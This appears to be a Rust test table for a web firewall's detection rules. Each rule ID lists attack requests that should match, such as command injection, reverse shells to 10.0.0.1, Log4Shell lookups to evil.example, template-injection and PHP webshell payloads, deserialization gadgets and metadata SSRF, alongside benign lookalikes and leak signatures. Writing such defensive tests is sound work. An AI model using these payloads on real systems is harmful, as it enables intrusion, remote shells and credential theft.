//! Requests for the rules about commands, code and servers, and answers for those about leaks.

use super::ask::Ask::{Answer, Arg, Body, Cookie, Field, File, Form, Json, Named, Search, Target};
use super::ask::Case;

/// As in the other table.
pub(super) const CASES: &[Case] = &[
    (
        1_005_010,
        &[
            Arg("127.0.0.1; cat /etc/hosts"),
            Arg("x|wget http://evil.example/a.sh"),
            Arg("a && ls -la"),
            Arg("`curl http://evil.example`"),
            Arg("$(sleep 5)"),
            Arg("127.0.0.1\ncat /etc/hosts"),
            Arg("8.8.8.8 & ping -c 5 127.0.0.1"),
            Json(r#"{"host":"a;bash -c 'x'"}"#),
        ],
        &[
            Form("First find the cat; more to come."),
            Form("| id | name | head |\n|---|---|---|\n| 1 | cat | tail |"),
            Form("Run sudo apt update && curl -fsSL https://get.example | sh"),
            Form("Cats & dogs; cats / dogs"),
            Form("```bash\ncurl -L https://get.example\n```"),
            Form("Hi\nid love to see the cat"),
            Arg("name;id"),
            Arg("Tom & Sort"),
            Arg("black|more|less"),
            Form("Sales; find -- or lose -- it"),
            Arg("R&D; file under /misc"),
        ],
    ),
    (
        1_005_020,
        &[Arg("x;whoami"), Arg("a|uname -a"), Arg("1 && id"), Arg("$(id)"), Arg("foo||ls;")],
        &[
            Arg("name|id"),
            Arg("title;id;ls"),
            Form("$(id).hide()"),
            Form("Who am I; whoami and I"),
            Arg("R&D & id card"),
            Form("pass; env. protection"),
        ],
    ),
    (
        1_005_030,
        &[
            Arg("x&type c:\\windows\\x.txt"),
            Arg("1|dir c:\\"),
            Arg("a & cmd /c calc"),
            Arg("powershell -nop -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"),
        ],
        &[
            Form("Which type & size?"),
            Form("PowerShell -- how to begin"),
            Arg("A & Type C"),
            Form("Open cmd and type dir"),
        ],
    ),
    (
        1_005_040,
        &[
            Arg("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"),
            Arg("nc -e /bin/sh 10.0.0.1 4444"),
            Arg("python3 -c 'import socket,subprocess'"),
        ],
        &[
            Form("Write to /dev/null"),
            Form("python -c 'print(1)'"),
            Form("/dev/tcp is a feature of bash"),
            Form("nc is short for no comment"),
        ],
    ),
    (
        1_005_050,
        &[Field("User-Agent", "() { :; }; /bin/bash -c id"), Cookie("() { x; }; echo")],
        &[
            Field("User-Agent", "App (Linux) {1}"),
            Form("function () { return 1; }"),
            Field("X-Note", "f() { is how functions begin"),
        ],
    ),
    (
        1_005_060,
        &[
            Arg("cat$IFS/etc/hosts"),
            Arg("cat${IFS}/x"),
            Arg(";{cat,/etc/hosts}"),
            Target("/x;curl$IFS$9http"),
        ],
        &[Form("OLD=$IFS; IFS=,"), Form("{cat, dog}"), Form("What is $IFS?"), Arg("{id}")],
    ),
    (
        1_006_010,
        &[
            Arg("${jndi:ldap://evil.example/a}"),
            Field("User-Agent", "${${lower:j}ndi:ldap://evil.example/a}"),
            Field("X-Api-Version", "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example}"),
            Body("text/plain", "x ${jndi:dns://evil.example} y"),
            Target("/$%7Bjndi:ldap://evil.example/%7D"),
            Json(r#"{"a":"${${env:X:-j}ndi:ldap://x}"}"#),
        ],
        &[
            Form("echo ${HOME}"),
            Form("${FOO:-${BAR}}"),
            Form("JNDI: a lookup of Java"),
            Form("`${user.name} has ${count} items`"),
            Arg("${lower}"),
        ],
    ),
    (
        1_006_020,
        &[
            Arg("{{''.__class__.__mro__}}"),
            Arg("{{config.items()}}"),
            Arg("{{constructor.constructor('alert(1)')()}}"),
            Arg("{% if request.application.__globals__ %}"),
            Arg("{{['id']|filter('system')}}"),
        ],
        &[
            Form("Hello {{ name }}, you have {{ count | plural }} mails"),
            Form("{% for item in items %}{{ item.title }}{% endfor %}"),
            Form("{{#if user}}x{{/if}}"),
            Form("def __init__(self): pass"),
            Form("{{ product.class }}"),
            Form("{{ request.path }}"),
        ],
    ),
    (
        1_006_030,
        &[Arg("{{7*7}}"), Arg("${7*7}"), Arg("#{ 7 * 7 }"), Arg("<%= 7*7 %>"), Arg("{{7*'7'}}")],
        &[
            Form("{{ count * 2 }}"),
            Form("Area = (7*7)"),
            Form("{7*7}"),
            Form("a{2}*b{3}"),
            Arg("7*7"),
        ],
    ),
    (
        1_006_040,
        &[
            Arg("${T(java.lang.Runtime).getRuntime().exec('id')}"),
            Field("Content-Type", "%{(#_memberAccess['allowStaticMethodAccess']=true)}"),
            Arg("%{#context['x']}"),
            Target("/$%7B(%23a=@java.lang.Runtime@getRuntime())%7D/"),
        ],
        &[
            Form("Runtime.getRuntime().exec(\"ls\") throws IOException"),
            Form("import java.util.List;"),
            Form("${project.version}"),
            Form("T(java) is a letter"),
        ],
    ),
    (
        1_006_050,
        &[
            Named("class.module.classLoader.resources.context.parent.pipeline.first.pattern", "x"),
            Named("class['classLoader'].x", "1"),
            Named("redirect:${x}", "1"),
        ],
        &[
            Named("class", "a"),
            Named("class.name", "b"),
            Named("subclass.loader", "c"),
            Named("redirect", "/"),
        ],
    ),
    (
        1_006_060,
        &[
            Named("__proto__[isAdmin]", "1"),
            Json(r#"{"a":{"__proto__":{"x":1}}}"#),
            Named("constructor[prototype][x]", "1"),
        ],
        &[
            Named("prototype", "1"),
            Named("constructor", "Red Bull"),
            Form("obj.__proto__ is old"),
            Named("proto", "1"),
        ],
    ),
    (
        1_006_070,
        &[
            Arg("<!--#exec cmd=\"ls\"-->"),
            Arg("<!--#include virtual=\"/x\"-->"),
            Field("User-Agent", "<esi:include src=http://evil.example/>"),
        ],
        &[
            Form("<!-- a comment -->"),
            Form("<!--more-->"),
            Form("#include <stdio.h>"),
            Form("<!-- #1 in sales -->"),
        ],
    ),
    (
        1_006_080,
        &[
            Body(
                "text/plain",
                "<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>",
            ),
            Arg("<!ENTITY % p SYSTEM \"http://evil.example/x.dtd\">"),
        ],
        &[
            Body("text/plain", "<!DOCTYPE html PUBLIC \"-//W3C//DTD XHTML 1.0 Strict//EN\" \"x\">"),
            Form("An entity is written <!ENTITY name \"value\">"),
            Form("the ENTITY system"),
        ],
    ),
    (
        1_007_010,
        &[
            Arg("php://filter/convert.base64-encode/resource=index"),
            Arg("php://input"),
            Arg("phar://x.jpg"),
            Arg("expect://id"),
            Arg("data://text/plain;base64,PD9waHA="),
        ],
        &[
            Arg("data:image/gif;base64,R0lGOD"),
            Form("The stream php://input holds the body of a request"),
            Arg("https://php.example/input"),
            Arg("php:// is a scheme of streams"),
            Arg("phar"),
        ],
    ),
    (
        1_007_020,
        &[
            Arg("<?php eval($_POST['x']);"),
            Arg("assert(base64_decode('aWQ='))"),
            Body("text/plain", "<?php @system($_GET[0]); ?>"),
            Form("file_put_contents('x.php', 'y')"),
        ],
        &[
            Form("<?php echo $title; ?>"),
            Form("echo htmlspecialchars($_GET['q']);"),
            Form("eval(code) is evil"),
            Form("the system (base64) is fine"),
        ],
    ),
    (
        1_007_030,
        &[
            Arg("phpinfo();"),
            Arg("system('id');"),
            Arg("';passthru('ls');"),
            Arg("${@print(md5(12345))}"),
            Arg("1;print(md5(31337));"),
        ],
        &[
            Search("phpinfo();"),
            Form("My system (a laptop) is slow;"),
            Form("Call exec('x') to run it; then wait"),
            Arg("system"),
            Form("eval (short for evaluation)"),
        ],
    ),
    (
        1_007_040,
        &[Named("_SERVER[DOCUMENT_ROOT]", "x"), Named("GLOBALS[a]", "1"), Named("_SESSION", "1")],
        &[Named("_method", "put"), Named("_token", "1"), Named("session", "1"), Named("_get", "1")],
    ),
    (
        1_007_050,
        &[
            Target("/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input"),
            Target("/?%ADd+allow_url_include%3d1"),
            Target("/index.php?-s"),
        ],
        &[
            Target("/?-dash=1"),
            Target("/?a=-d"),
            Target("/?sort=-date&dir=asc"),
            Target("/?q=allow_url_include"),
        ],
    ),
    (
        1_008_010,
        &[Arg("rO0ABXNyABFqYXZhLnV0aWw"), Cookie("rO0ABQ=="), Json(r#"{"a":"rO0ABXNy"}"#)],
        &[
            Named("javax.faces.ViewState", "rO0ABXVyABNb"),
            Arg("r00AB"),
            Cookie("eyJhbGciOiJIUzI1NiJ9.e30.x"),
            Arg("brO0ABXNy"),
        ],
    ),
    (
        1_008_020,
        &[
            Arg("O:8:\"Evil\\Obj\":1:{s:1:\"a\";i:1;}"),
            Arg("a:1:{i:0;O:4:\"User\":0:{}}"),
            Cookie("O%3A4%3A%22User%22%3A0%3A%7B%7D"),
            Arg("C:11:\"ArrayObject\":0:{}"),
        ],
        &[
            Arg("a:2:{i:0;s:1:\"x\";i:1;s:1:\"y\";}"),
            Arg("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}"),
            Form("O:3 is a chemical, \"ozone\":"),
            Json(r#"{"O":8,"x":"y"}"#),
        ],
    ),
    (
        1_008_030,
        &[
            Arg("AAEAAAD/////AQAAAAAAAAAMAgAAA"),
            Json(r#"{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework"}"#),
        ],
        &[
            Arg("AAEAAABkAAAA"),
            Json(r#"{"$type":"Shop.Order, Shop"}"#),
            Form("System.Diagnostics is a namespace"),
        ],
    ),
    (
        1_008_040,
        &[
            Arg("cos\nsystem\n(S'id'\ntR."),
            Form("!!python/object/apply:os.system ['id']"),
            Cookie("{\"x\":\"_$$ND_FUNC$$_function(){}()\"}"),
            Form("--- !ruby/object:Gem::Installer"),
        ],
        &[
            Form("sin and cos\nsystem of equations"),
            Form("!!python is great"),
            Form("!ruby"),
            Form("cost $$ND"),
        ],
    ),
    (
        1_008_050,
        &[
            Json(r#"{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://x"}"#),
            Body("text/plain", "<java class=\"java.beans.XMLDecoder\">"),
            Form("org.apache.commons.collections.functors.InvokerTransformer"),
        ],
        &[
            Json(r#"{"@type":"Person","name":"Ann"}"#),
            Form("org.apache.commons.lang3.StringUtils"),
            Form("java.beans are good"),
        ],
    ),
    (
        1_009_010,
        &[
            Arg("http://169.254.169.254/latest/meta-data/"),
            Arg("http://metadata.google.internal/computeMetadata/v1/"),
            Arg("//user@169.254.169.254/"),
            Field("Host", "169.254.169.254"),
            Arg("http://[::ffff:169.254.169.254]/"),
        ],
        &[
            Form("Clouds answer at 169.254.169.254, see the manual"),
            Arg("169.254.1.1"),
            Arg("https://metadata.example.com/x"),
            Arg("http://169.254.169.254.example.com/"),
        ],
    ),
    (
        1_009_020,
        &[
            Arg("file:///etc/hosts"),
            Arg("gopher://127.0.0.1:6379/_INFO"),
            Arg("dict://10.0.0.1:11211/stat"),
            Arg("netdoc:/etc/x"),
        ],
        &[
            Arg("file://server/share/report.docx"),
            Form("A file: see below"),
            Arg("ldap://ldap.example.com:389"),
            Arg("https://example.com/file:///x"),
        ],
    ),
    (
        1_009_030,
        &[
            Arg("http://2130706433/"),
            Arg("http://0x7f000001/"),
            Arg("http://0177.0.0.01/"),
            Arg("http://[::ffff:127.0.0.1]/"),
        ],
        &[
            Arg("http://1234.example/"),
            Arg("https://example.com/2130706433"),
            Arg("tel:2130706433"),
            Arg("http://127.0.0.1:3000/callback"),
        ],
    ),
    (
        1_010_010,
        &[
            Field("User-Agent", "sqlmap/1.7.2#stable (https://sqlmap.org)"),
            Field("User-Agent", "Mozilla/5.0 (compatible; Nuclei - Open-source project)"),
            Field("User-Agent", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"),
        ],
        &[
            Field(
                "User-Agent",
                "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
            ),
            Field("User-Agent", "curl/8.4.0"),
            Field("User-Agent", "NucleiReader/1.0"),
            Field("User-Agent", "python-requests/2.31"),
        ],
    ),
    (
        1_010_030,
        &[
            Arg("http://c4n5s2k8d1e0f7g6h3j9.oast.pro/x"),
            Field("Referer", "https://abcdefghijklmnopqrst0123.oastify.com/"),
        ],
        &[
            Arg("https://oast.example/x"),
            Form("See interact.sh and oast.pro"),
            Field("Referer", "https://www.example.com/"),
        ],
    ),
    (
        1_011_010,
        &[
            File("shell.php"),
            File("x.phtml"),
            File("a.jsp "),
            File("a.aspx"),
            File(".htaccess"),
            File("x.php;.jpg"),
        ],
        &[
            File("photo.jpg"),
            File("php-manual.pdf"),
            File("index.php.png"),
            File("cert.cer"),
            File("notes.html"),
        ],
    ),
    (
        1_011_020,
        &[File("../x.jpg"), File("/etc/cron.d/x"), File("a/../../b")],
        &[File("a..b.jpg"), File("Bericht (1).pdf"), File("v1...txt"), File("résumé.doc")],
    ),
    (
        1_012_010,
        &[
            Answer(500, "<p>You have an error in your SQL syntax; check the manual</p>"),
            Answer(500, "SQLSTATE[42000]: Syntax error"),
            Answer(404, "ORA-00933: SQL command not properly ended"),
        ],
        &[
            Answer(200, "What does \"You have an error in your SQL syntax\" mean?"),
            Answer(500, "Something went wrong"),
            Answer(500, "ORA is a prefix"),
        ],
    ),
    (
        1_012_020,
        &[
            Answer(500, "java.lang.NullPointerException\n\tat com.example.App.run(App.java:42)\n"),
            Answer(500, "Traceback (most recent call last):\n  File \"x.py\""),
            Answer(500, "Error: x\n    at Object.<anonymous> (/srv/app/index.js:10:15)"),
        ],
        &[
            Answer(200, "at com.example.App.run(App.java:42) is a line of a trace"),
            Answer(500, "We met at noon (12:00)"),
            Answer(404, "Not found at all"),
        ],
    ),
    (
        1_012_030,
        &[
            Answer(
                200,
                "<br />\n<b>Warning</b>:  include(x): failed in <b>/var/www/a.php</b> on line <b>3</b>",
            ),
            Answer(
                500,
                "<b>Fatal error</b>:  Uncaught Error in <b>C:\\web\\a.php</b> on line <b>30</b><br />",
            ),
        ],
        &[
            Answer(200, "<b>Warning</b>: hot surface"),
            Answer(200, "<b>Notice</b>: we moved in <b>May</b> on line <b>3</b> of the tram"),
        ],
    ),
    (
        1_012_040,
        &[
            Answer(
                200,
                "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL\nMIIEowIBAAKCAQEA01234567\n",
            ),
            Answer(
                200,
                "<pre>-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQAAAAAAAAABAAAAMwAAAAtzc2gt\nZWQyNTUxOQAAACA=\n",
            ),
        ],
        &[
            Answer(200, "A key begins with -----BEGIN RSA PRIVATE KEY----- and some lines"),
            Answer(
                200,
                "-----BEGIN PUBLIC KEY-----\nMIIEowIBAAKCAQEA0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKL\nMIIE\n",
            ),
            Answer(200, "-----BEGIN PRIVATE KEY-----\n...\n-----END PRIVATE KEY-----\n"),
        ],
    ),
    (
        1_012_050,
        &[
            Answer(
                200,
                "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n",
            ),
            Answer(200, "\nroot:*:0:0:Charlie &:/root:/bin/csh\nbin:*:3:7:x:/:/usr/sbin/nologin\n"),
        ],
        &[
            Answer(200, "<p>The line root:x:0:0:root:/root:/bin/bash is of root</p>"),
            Answer(200, "root: the part of a plant\nleaf: another"),
        ],
    ),
    (
        1_012_060,
        &[
            Answer(
                200,
                "{\"AccessKeyId\" : \"ASIA\", \"SecretAccessKey\" : \"0123456789012345678901234567890123456789\"}",
            ),
            Answer(
                200,
                "APP_NAME=x\nAPP_KEY=base64:MDEyMzQ1Njc4OTAxMjM0NTY3ODkwMTIzNDU2Nzg5MDE=\nDB_HOST=a\nDB_PASSWORD=b\n",
            ),
        ],
        &[
            Answer(200, "Set SecretAccessKey in your settings"),
            Answer(200, "<pre>APP_KEY=base64:...\nDB_PASSWORD=</pre>"),
        ],
    ),
    (
        1_001_520,
        &[Field("X-Original-URL", "/admin"), Field("X-Rewrite-URL", "/admin")],
        &[Field("X-Original-Host", "a"), Field("X-Url", "/")],
    ),
    (
        1_001_530,
        &[Field("Content-Encoding", "gzip"), Field("Content-Encoding", "br")],
        &[Field("Content-Encoding", "identity"), Field("Accept-Encoding", "gzip")],
    ),
    (
        1_002_510,
        &[Arg("../../page"), Arg("a/../../b")],
        &[Arg("../page"), Form("import x from '../../x'")],
    ),
    (
        1_003_510,
        &[Arg("information_schema.tables"), Arg("@@version"), Arg("x from sysobjects")],
        &[Arg("information schema"), Arg("a@@b"), Arg("system objects")],
    ),
    (
        1_003_530,
        &[Named("user[$ne]", "1"), Json(r#"{"pass":{"$gt":""}}"#)],
        &[Named("$next", "1"), Named("price[gt]", "5")],
    ),
    (
        1_004_510,
        &[Arg("<iframe src=//evil.example>"), Arg("<svg>"), Arg("<form action=x>")],
        &[Arg("<b>bold</b>"), Arg("a <form"), Arg("x<y")],
    ),
    (
        1_005_510,
        &[Form("please run; cat /etc/hosts"), Arg("a `id` b"), Form("x && curl http://a")],
        &[Form("cats; dogs"), Arg("`name`"), Form("ids & more")],
    ),
    (
        1_007_510,
        &[Arg("<?php echo 1;"), Form("<?= $x ?>")],
        &[Arg("<? xml"), Arg("<?xml version=\"1.0\"?>"), Arg("php")],
    ),
    (
        1_009_510,
        &[Arg("http://localhost/admin"), Arg("https://192.168.1.1/"), Arg("http://127.1/")],
        &[
            Named("redirect_uri", "http://localhost:3000/callback"),
            Arg("http://localhost.example.com/"),
            Arg("https://example.com/?u=http://10.0.0.1"),
        ],
    ),
];
